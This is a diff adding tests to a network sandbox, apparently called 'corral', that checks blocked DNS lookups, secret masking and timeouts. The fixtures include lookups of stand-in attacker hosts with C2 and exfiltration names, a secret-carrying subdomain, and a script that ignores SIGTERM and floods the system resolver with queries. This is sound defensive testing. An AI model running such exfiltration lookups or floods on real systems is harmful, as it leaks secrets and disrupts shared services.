@@ -106,3 +106,66 @@ def test_the_python_api_reports_no_secrets_value():
         box.wait(60)
     texts = [row.destination for row in box.report.denials]
     assert texts == ["plain.example", "***.evil.example"]
+
+
+KEY_LIKE = ("sk-c2.attacker.example.com", "hf_exfil.attacker2.example.org")
+
+
+def test_names_in_the_form_of_keys_are_reported(user):
+    """A target chooses its names, so their form must not hide them. The control is a secret."""
+    script = SCRIPT + "".join(f"look_up({name!r})\n" for name in KEY_LIKE) + LOOKUPS["name"]
+    flags = ("--secret", "TOK")
+    done = user.run(user.python, "-c", script, flags=flags, env=user.environment(TOK=VALUE))
+    lines = done.stderr.decode().splitlines()
+    for name in KEY_LIKE:
+        assert any(line.startswith(f"corral: denied: name {name}") for line in lines)
+    assert f"corral: denied: name {KEY_LIKE[0]}; --allow-net {KEY_LIKE[0]}" in lines
+    assert "corral: denied: name ***.evil.example (with the value of TOK)" in lines
+
+
+# The target ignores SIGTERM and sends a question each millisecond, without reading an answer.
+FLOOD = """
+import signal, socket, time
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+words = open("/etc/resolv.conf").read().split()
+place = (words[words.index("nameserver") + 1], 53)
+name = b"".join(bytes([len(one)]) + one for one in [b"a" * 60] * 4) + b"\\0"
+question = b"\\1\\1\\1\\0\\0\\1" + bytes(6) + name + b"\\0\\1\\0\\1"
+print("started", flush=True)
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
+    while True:
+        end.sendto(question, place)
+        time.sleep(0.001)
+"""
+
+
+def make_server(user, place, variables: dict[str, str], code: str) -> None:
+    lines = [f"{name} = {json.dumps(value)}" for name, value in variables.items()]
+    text = 'version = 1\n[server]\ncommand = ["python3", "main.py"]\n[environment.set]\n'
+    for name, content in (("main.py", code), ("corral.toml", text + "\n".join(lines))):
+        (place / name).write_text(content)
+        os.chown(place / name, user.owner, user.owner)
+
+
+OVERLAPPING = {f"T{number}_TOKEN": "a" * (8 + number) for number in range(230)}
+
+
+@pytest.mark.parametrize("variables", [{}, OVERLAPPING], ids=["none", "overlapping"])
+def test_a_manifest_does_not_delay_the_timeout(user, place, variables):
+    """The control is a manifest without variables."""
+    make_server(user, place, variables, FLOOD)
+    done = user.corral("run", "--timeout", "3s", str(place))
+    assert done.stdout == b"started\n"
+    assert done.returncode == 124, done.stderr
+    assert b"denied: name aaaa" in done.stderr
+
+
+def test_a_manifest_does_not_decide_what_is_masked(user, place):
+    name = "c2-server.attacker.example"
+    code = f"import socket\ntry:\n    socket.getaddrinfo({name!r}, 80)\nexcept OSError:\n    pass"
+    make_server(user, place, {"A_TOKEN": name}, code)
+    shown = user.corral("run", str(place))
+    assert f"denied: name {name}; --allow-net {name}".encode() in shown.stderr
+    # The control: the same variable of the user.
+    hidden = user.corral("run", "--env", f"A_TOKEN={name}", str(place))
+    assert b"denied: name *** (with the value of A_TOKEN)" in hidden.stderr
